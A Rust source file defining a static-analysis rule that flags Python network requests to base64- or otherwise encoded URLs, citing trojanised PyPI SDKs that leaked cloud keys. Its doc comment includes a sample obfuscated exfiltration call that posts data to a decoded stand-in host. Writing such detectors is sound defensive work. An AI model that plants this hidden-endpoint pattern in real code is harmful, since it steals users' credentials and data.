//! PY016 hidden-network-endpoint.

use crate::context::{CodeFile, Cx};
use assay_core::{Capability, Finding, Severity};
use assay_lang::EventKind;

declare_rule! {
    /// ## What it does
    /// Flags a network request whose address the code holds only in encoded form: the
    /// URL is the output of a decoder (base64/32/16, hex, rot13, reversal, `chr()` joins…)
    /// applied to a literal, and the plain address appears nowhere in the file. Requests
    /// that send data (`post`/`put`/`patch`, or `data=`/`json=`/`files=`) are critical;
    /// others are high.
    ///
    /// ## Why it matters
    /// An endpoint has no reason to be hidden from the reader unless the reader would
    /// object to it. Trojanised cloud SDKs on PyPI (2022–2023) sent the caller's access
    /// key and secret with `requests.post(url=base64.b64decode('aHR0cHM6Ly9…').decode(),
    /// json={'ak': …, 'secret': …})` from inside an ordinary-looking client method.
    ///
    /// ## Example
    /// ```python
    /// requests.post(url=base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYw==").decode(), json=data)
    /// ```
    ///
    /// ## False positives
    /// Code that stores configuration base64-encoded for transport and then calls the
    /// decoded address; such URLs usually come from a file or the environment, not a
    /// literal. In tests and docs the severity is low.
    ///
    /// ## References
    /// - MITRE ATT&CK T1027 (Obfuscated Files or Information), T1041 (Exfiltration Over C2 Channel)
    /// - CWE-506: Embedded Malicious Code
    pub static META = HiddenNetworkEndpoint;
}

/// Whether a request call sends data, by its method name or its keyword arguments.
fn sends_data(api: &str, snippet: &str) -> bool {
    let last = api.rsplit('.').next().unwrap_or(api);
    matches!(last, "post" | "put" | "patch")
        || ["data=", "json=", "files="]
            .iter()
            .any(|k| snippet.contains(k))
}

/// Check network events against the file's decoded and plain strings.
pub fn check_file(cx: &Cx, f: &CodeFile, out: &mut Vec<Finding>) {
    let a = &f.analysis;
    for e in a.events.iter().filter(|e| e.kind == EventKind::Network) {
        let Some(url) = e.arg.as_deref().map(str::trim) else {
            continue;
        };
        let lower = url.to_ascii_lowercase();
        if !(lower.starts_with("http://") || lower.starts_with("https://")) {
            continue;
        }
        // Decoded strings carry one more chain step than the code that decoded them.
        let decoded = a
            .strings
            .iter()
            .any(|s| s.value.trim() == url && s.chain.len() > e.chain.len());
        let plain = a
            .strings
            .iter()
            .any(|s| s.chain.len() <= e.chain.len() && s.value.contains(url));
        if !decoded || plain {
            continue;
        }
        let sev = if f.is_test_or_doc() {
            Severity::Low
        } else if sends_data(&e.api, &e.snippet) {
            Severity::Critical
        } else {
            Severity::High
        };
        let mut x = cx.event_finding(
            &META,
            f,
            e,
            sev,
            format!("{} to an encoded address: {url}", e.api),
        );
        x.capabilities = vec![Capability::Network, Capability::Obfuscation];
        out.push(x);
    }
}
